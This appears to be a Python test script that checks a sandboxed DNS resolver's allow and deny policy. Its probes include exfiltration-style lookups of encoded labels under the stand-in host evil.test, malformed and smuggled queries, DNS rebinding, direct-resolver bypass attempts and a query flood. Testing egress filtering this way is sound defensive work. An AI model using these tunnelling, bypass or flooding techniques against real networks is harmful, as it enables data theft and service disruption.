# SPDX-License-Identifier: Apache-2.0
"""What names.sh has done inside: PART NAME. One line `LABEL RESULT MILLISECONDS` for each thing that is tried; NAME is of
this run alone.

Looks names up by lib_lookup.py, which is no resolver library, and by the programs that people have."""

import os
import shutil
import socket
import struct
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import lib_lookup  # noqa: E402

RESOLVER, RESOLVER6 = "198.18.0.1", "fd77:6569:72::1"


def told(label, function, *arguments):
    begun = time.monotonic()
    try:
        result = function(*arguments)
    except socket.gaierror as e:
        result = "gaierror"
    except socket.timeout:
        result = "timeout"
    except OSError as e:
        result = e.strerror.replace(" ", "-")
    print(label, result or "nothing", int((time.monotonic() - begun) * 1000), flush=True)


def look(name, kind="A", tcp=False, server=RESOLVER):
    return ",".join(lib_lookup.main(server, name, kind, tcp)).replace(" ", "-")


def query(name, kind=1, extra=b"", counts=(1, 0, 0, 0)):
    """Bytes of a question; the name as wire format."""
    return struct.pack(">HHHHHH", 7, 0x100, *counts) + name + struct.pack(">HH", kind, 1) + extra


def raw(data):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.connect((RESOLVER, 53))
    s.send(data)
    return "rcode-%d" % (s.recv(4096)[3] & 15)


def labels(*parts):
    return b"".join(bytes([len(p)]) + p for p in parts) + b"\0"


def get(host, port=80):
    """The first line of what a web server says, by the first address that works."""
    with socket.create_connection((host, port), timeout=6) as s:
        s.sendall(b"GET / HTTP/1.0\r\nHost: %s\r\n\r\n" % host.encode())
        return s.recv(100).split(b"\r\n")[0].split(b" ", 1)[-1].decode().replace(" ", "-") or "closed"


def program(*words):
    p = subprocess.run(words, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=20, text=True)
    return "%d:%s" % (p.returncode, " ".join(p.stdout.split())[:120].replace(" ", "-"))


def send(family, address, port):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(query(labels(b"data", b"evil", b"test")), (address, port))
    return "answered" if s.recv(100) else "empty"


def dial(family, address, port):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect((address, port))
    return "connected"


def questions():
    told("allowed", look, "files.test")
    told("allowed6", look, "files.test", "AAAA")
    told("case", look, "FiLeS.TeSt")
    told("dot", look, "files.test.")
    told("tcp", look, "files.test", "A", True)
    told("by6", look, "files.test", "A", False, RESOLVER6)
    told("tcp-by6", look, "files.test", "A", True, RESOLVER6)
    for kind in "TXT", "NULL", "ANY", "HTTPS", "SVCB", "MX", "CNAME", "NS":
        told("type-" + kind, look, "files.test", kind)
    told("refused", look, "evil.test")
    told("refused6", look, "evil.test", "AAAA")
    told("refused-tcp", look, "evil.test", "A", True)
    for kind in "TXT", "NULL", "ANY", "HTTPS", "MX":
        told("refused-" + kind, look, "c2VjcmV0.evil.test", kind)
    for n in range(20):
        look("%032x.evil.test" % n)
    told("twin", look, "cdn.test")
    told("wild", look, "a.wild.test")
    told("wild-itself", look, "wild.test")
    told("suffix", look, "files.test.evil.test")
    told("punycode", look, "xn--bcher-kva.wild.test")
    told("utf8", look, "b\u00fccher.wild.test")
    told("longest", look, ".".join(["a" * 63] * 3 + ["b" * 51, "wild", "test"]))
    told("too-long", raw, query(labels(b"a" * 63, b"a" * 63, b"a" * 63, b"b" * 53, b"wild", b"test")))
    told("nul", raw, query(labels(b"files\0", b"test")))
    told("nul-inside", raw, query(labels(b"evil\0files", b"test")))
    told("dot-inside", raw, query(labels(b"files.test")))
    told("newline", raw, query(labels(b"files\n", b"test")))
    told("pointer", raw, query(b"\xc0\x0c"))
    told("two", raw, query(labels(b"files", b"test"), 1, labels(b"evil", b"test") + b"\0\1\0\1", (2, 0, 0, 0)))
    told("answer-in-it", raw, query(labels(b"files", b"test"), 1, labels(b"evil", b"test") + b"\0\1\0\1\0\0\0\0\0\4abcd", (1, 1, 0, 0)))
    told("empty", raw, query(b"\0", 2))
    told("nx", look, "nx.test")
    told("v4", look, "v4.test", "AAAA")
    told("v6", look, "v6.test", "A")
    told("slow", look, "slow.test")
    told("big", look, "big.test")
    for name in "chain", "mapped", "nat64", "local", "meta", "zero", "inside", "mixed", "many", "liar":
        told("lie-" + name, look, name + ".test", "A")
    told("reverse", program, "getent", "hosts", socket.gethostbyname("files.test"))
    told("reverse-other", program, "getent", "hosts", "192.0.2.7")


def connections():
    told("get", get, "files.test")
    told("get-mixed", get, "mixed.test")
    told("get-liar", get, "liar.test")
    told("get-rebind", get, sys.argv[-1] + ".rebind.test")
    time.sleep(1.5)
    told("get-rebind-again", get, sys.argv[-1] + ".rebind.test")
    told("get-self", get, "self.test")


def others():
    told("mdns", send, socket.AF_INET, "224.0.0.251", 5353)
    told("llmnr", send, socket.AF_INET, "224.0.0.252", 5355)
    told("mdns6", send, socket.AF_INET6, "ff02::fb", 5353)
    told("udp53", send, socket.AF_INET, "198.51.100.53", 53)
    told("tcp53", dial, socket.AF_INET, "198.51.100.53", 53)
    told("dot853", dial, socket.AF_INET, "198.51.100.53", 853)
    told("doh443", dial, socket.AF_INET, "198.51.100.10", 443)
    told("resolver443", dial, socket.AF_INET, RESOLVER, 443)
    told("no-name", dial, socket.AF_INET, "198.18.77.77", 80)


PROGRAMS = {
    "getent": ["getent", "ahosts", "%s"],
    "curl": ["curl", "-sS", "-m", "10", "http://%s/"],
    "python": ["python3", "-c", "import socket; print(socket.getaddrinfo('%s', 80)[0][4][0])"],
    "node": ["node", "-e", "require('dns').lookup('%s', (e, a) => console.log(e ? e.code : a))"],
    "node-resolver": ["node", "-e", "require('dns').resolve4('%s', (e, a) => console.log(e ? e.code : a[0]))"],
    "busybox": ["busybox", "nslookup", "%s"],
    "dig": ["dig", "+noall", "+comments", "+answer", "%s"],
    "musl": ["./musl", "%s"],
}


def programs():
    for label, words in PROGRAMS.items():
        if not shutil.which(words[0]):
            continue
        told(label + "-yes", program, *[w.replace("%s", "files.test") for w in words])
        told(label + "-no", program, *[w.replace("%s", "evil.test") for w in words])


def silent():
    """A server outside that says nothing holds up nobody else."""
    waits = threading.Thread(target=told, args=("silent", lambda: socket.getaddrinfo("silent.test", 80)))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(8)
    s.connect((RESOLVER, 53))
    begun = time.monotonic()
    s.send(query(labels(b"silent", b"test")))
    waits.start()
    time.sleep(0.3)
    told("meanwhile", look, "b.wild.test")
    code = s.recv(4096)[3] & 15
    print("silent-answer", "rcode-%d" % code, int((time.monotonic() - begun) * 1000), flush=True)
    waits.join()


def flood():
    """Questions by the thousand, and then one that matters."""
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(20)]
    for n in range(4000):
        sockets[n % 20].sendto(query(labels(b"n%d" % (n % 100), b"evil", b"test")), (RESOLVER, 53))
    held = [socket.create_connection((RESOLVER, 53)) for _ in range(80)]
    told("after-flood", look, "c.wild.test")
    told("after-flood-tcp", look, "c.wild.test", "A", True)
    del held


globals()[sys.argv[1]]()
